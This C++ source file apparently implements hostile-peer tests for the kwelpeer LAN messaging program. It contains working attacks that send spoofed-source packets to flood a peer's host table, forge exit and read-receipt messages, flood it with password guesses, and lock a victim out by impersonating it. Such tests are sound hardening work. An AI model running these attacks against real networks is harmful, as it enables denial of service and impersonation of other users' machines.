#include "hostile_hosts.h"

#include "hostile.h"

#include "core/Password.h"
#include "net/Commands.h"
#include "net/ShareList.h"

#include <QElapsedTimer>
#include <QHostAddress>

#include <algorithm>

namespace {

constexpr quint32 kFillNet = 0x0A620000; // 10.98.0.0/16
constexpr quint32 kGuessNet = 0x0A610000; // 10.97.0.0/16

quint32 forgedAddress(quint32 net, qint64 n)
{
    // .1 to .250 of each /24, so that no address is a network's or a broadcast.
    return net + quint32(n / 250 % 250) * 256 + quint32(n % 250) + 1;
}

qint64 countAnswers(const RawPeer &peer, const std::function<bool(const PacketRecord &)> &test)
{
    return std::count_if(peer.answers().cbegin(), peer.answers().cend(), test);
}

bool isChallenge(const PacketRecord &p)
{
    return p.command() == CMD_MESSAGE_OPENED && p.hasOption(OPT_READ_CHECK);
}

// Entries from new forged addresses, `rate` a second for `ms` (all at once
// for a rate of 0), numbered on from n.
qint64 forgedEntries(qint64 &n, qint64 count, int rate, qint64 ms, quint32 target, quint16 port)
{
    QElapsedTimer clock;
    clock.start();
    qint64 sent = 0;
    for (qint64 done = 0; rate > 0 ? clock.elapsed() < ms : done < count;) {
        const qint64 due = rate > 0 ? clock.elapsed() * rate / 1000 : std::min(count, done + 64);
        for (; done < due; ++done, ++n) {
            const QString name = QStringLiteral("fill%1").arg(n);
            // (our own 2425 is taken by kwelpeer itself)
            ForgedPeer peer(forgedAddress(kFillNet, n), quint16(20000 + n % 40000), target, port, name);
            sent += peer.send(CMD_ANNOUNCE_ENTRY, name.toUtf8()) > 0;
        }
        // A pace the receiver's socket keeps up with.
        PumpEvents(rate > 0 ? 1 : 15);
    }
    return sent;
}

bool hostfill(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const qint64 count = qBound(0, words.value(1).toInt(), 100000);
    const int rate = qBound(0, words.value(2).toInt(), 100000);
    const int seconds = qBound(0, words.value(3).toInt(), 600);
    qint64 n = 0;
    qint64 sent = forgedEntries(n, count, 0, 0, target, port);
    if (rate > 0 && seconds > 0)
        sent += forgedEntries(n, 0, rate, qint64(seconds) * 1000, target, port);
    report(QStringLiteral("HOSTFILL sent %1").arg(sent));
    return sent > 0;
}

bool forgeexit(const QStringList &words, quint32 target, const std::function<void(const QString &)> &report)
{
    // From the peer's port to the same port of the target, as peers talk.
    const quint16 port = quint16(words.value(2).toUInt());
    ForgedPeer peer(QHostAddress(words.value(1)).toIPv4Address(), port, target, port, QStringLiteral("forged"));
    const qint64 sent = peer.send(CMD_ANNOUNCE_EXIT, {}) > 0;
    report(QStringLiteral("FORGEEXIT sent %1").arg(sent));
    return sent > 0;
}

bool fairshare(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 first = QHostAddress(words.value(1)).toIPv4Address();
    const int count = qBound(1, words.value(2).toInt(), 250);
    const int ports = qBound(1, words.value(3).toInt(), 64);
    int echoed = 0;
    qint64 entries = 0;
    for (int a = 0; a < count; ++a) {
        const quint32 address = first + quint32(a);
        // One port shows the address receives: it echoes the challenge its
        // entry (in a full table) or its share-list request brings.
        RawPeer prover(target, port, QStringLiteral("fair%1").arg(a), address);
        if (!prover.isOpen())
            return false;
        entries += prover.send(CMD_ANNOUNCE_ENTRY, "fair") > 0;
        prover.send(CMD_GET_SHARE_LIST, {});
        prover.collect(80);
        echoed += countAnswers(prover, isChallenge) > 0;
        for (int p = 1; p < ports; ++p) {
            const QString name = QStringLiteral("fair%1-%2").arg(a).arg(p);
            ForgedPeer peer(address, quint16(30000 + p), target, port, name);
            entries += peer.send(CMD_ANNOUNCE_ENTRY, name.toUtf8()) > 0;
            if (p % 16 == 0)
                PumpEvents(2);
        }
    }
    report(QStringLiteral("FAIRSHARE addresses %1 echoed %2 entries %3").arg(count).arg(echoed).arg(entries));
    return true;
}

bool echoentry(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int seconds = qBound(1, words.value(1).toInt(), 60);
    RawPeer peer(target, port, QStringLiteral("newcomer"));
    peer.setEchoDelay(qBound(0, words.value(2).toInt(), 10000));
    if (!peer.isOpen() || peer.send(CMD_ANNOUNCE_ENTRY, "newcomer") == 0)
        return false;
    // collect echoes each challenge as it comes.
    peer.collect(seconds * 1000);
    report(QStringLiteral("ECHOENTRY port %1 challenges %2 answers %3")
               .arg(peer.localPort())
               .arg(countAnswers(peer, isChallenge))
               .arg(countAnswers(peer, [](const PacketRecord &p) { return p.command() == CMD_ANSWER_ENTRY; })));
    return true;
}

// Wrong passwords from forged addresses, address(i) for the i-th.
qint64 forgedGuesses(
    int n, const std::function<quint32(int)> &address, quint32 target, quint16 port)
{
    qint64 sent = 0;
    for (int i = 0; i < n; ++i) {
        ForgedPeer peer(address(i), quint16(20000 + i % 40000), target, port, QStringLiteral("guesser"));
        sent += peer.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(QStringLiteral("wrong%1").arg(i))) > 0;
        if (i % 32 == 31)
            PumpEvents(2);
    }
    return sent;
}

bool forgeguess(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 victim = QHostAddress(words.value(1)).toIPv4Address();
    const int n = qBound(1, words.value(2).toInt(), 1000);
    report(QStringLiteral("FORGEGUESS sent %1").arg(forgedGuesses(n, [&](int) { return victim; }, target, port)));
    return true;
}

bool guessflood(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int n = qBound(1, words.value(1).toInt(), 100000);
    const int addresses = qBound(1, words.value(2).toInt(), 60000);
    const qint64 sent = forgedGuesses(n, [&](int i) { return forgedAddress(kGuessNet, i % addresses); }, target, port);
    report(QStringLiteral("GUESSFLOOD sent %1").arg(sent));
    return true;
}

bool shareslock(const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 victim = QHostAddress(words.value(1)).toIPv4Address();
    const int n = qBound(1, words.value(2).toInt(), 100);
    const int gapMs = qBound(0, words.value(3).toInt(), 10000);
    const qint32 size = qBound(1, words.value(4).toInt(), 1 << 20);
    // In the target's name, from a port of its address no one listens on:
    // the victim lists that record and asks it for the new head picture.
    ForgedPeer entry(target, quint16(30000 + size % 20000), victim, port, QStringLiteral("owner"));
    entry.header().headPictureSize = size;
    const bool listed = entry.send(CMD_ANNOUNCE_ENTRY, "owner", "group") > 0;
    PumpEvents(300);
    // Each guess from the victim's own port: the target's challenge reaches
    // the victim's program. Each text is new, so no guess is a copy of one
    // sent in an earlier round.
    ForgedPeer guesser(victim, port, target, port, QStringLiteral("victim"));
    int guesses = 0;
    for (int i = 0; i < n; ++i) {
        if (i > 0)
            PumpEvents(gapMs);
        guesses += guesser.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(QStringLiteral("wrong%1-%2").arg(size).arg(i)))
            > 0;
    }
    report(QStringLiteral("SHARESLOCK entries %1 guesses %2").arg(int(listed)).arg(guesses));
    return true;
}

bool forgenotices(
    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const quint32 sender = QHostAddress(words.value(1)).toIPv4Address();
    const int seconds = qBound(1, words.value(2).toInt(), 60);
    ForgedPeer peer(sender, port, target, port, QStringLiteral("owner"));
    int sent = 0;
    for (int i = 0; i < seconds * 10; ++i) {
        sent += peer.send(CMD_MESSAGE_OPENED | OPT_READ_CHECK, PacketCodec::FormatNumber(quint32(7000000 + i))) > 0;
        if (i == 0)
            report(QStringLiteral("FORGENOTICES started"));
        PumpEvents(100);
    }
    report(QStringLiteral("FORGENOTICES sent %1").arg(sent));
    return true;
}

bool rightpassword(
    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const int tries = qBound(1, words.value(2).toInt(), 20);
    RawPeer peer(target, port, QStringLiteral("owner"));
    if (!peer.isOpen() || !peer.announce())
        return false;
    int lists = 0;
    for (int i = 0; i < tries; ++i) {
        // Its challenges echoed as this program does, then as plain peers do.
        peer.setEchoPacketNumber(i % 2 == 1);
        peer.reset();
        peer.send(CMD_GET_SHARE_LIST_PASSWORD, ScramblePassword(words.value(1)));
        peer.collect(1500);
        lists += countAnswers(peer, [](const PacketRecord &p) {
            return p.command() == CMD_SHARE_LIST && p.bodyText() != QLatin1String(ShareList::kWrongPassword)
                && p.bodyText() != QLatin1String(ShareList::kNeedPassword);
        }) > 0;
    }
    report(QStringLiteral("RIGHTPASSWORD tries %1 lists %2").arg(tries).arg(lists));
    return true;
}

} // namespace

std::optional<bool> RunHostAttack(
    const QStringList &words, quint32 target, quint16 port, const std::function<void(const QString &)> &report)
{
    const QString attack = words.value(0);
    if (attack == QLatin1String("hostfill"))
        return hostfill(words, target, port, report);
    if (attack == QLatin1String("forgeexit"))
        return forgeexit(words, target, report);
    if (attack == QLatin1String("fairshare"))
        return fairshare(words, target, port, report);
    if (attack == QLatin1String("echoentry"))
        return echoentry(words, target, port, report);
    if (attack == QLatin1String("forgeguess"))
        return forgeguess(words, target, port, report);
    if (attack == QLatin1String("guessflood"))
        return guessflood(words, target, port, report);
    if (attack == QLatin1String("shareslock"))
        return shareslock(words, target, port, report);
    if (attack == QLatin1String("forgenotices"))
        return forgenotices(words, target, port, report);
    if (attack == QLatin1String("rightpassword"))
        return rightpassword(words, target, port, report);
    return std::nullopt;
}
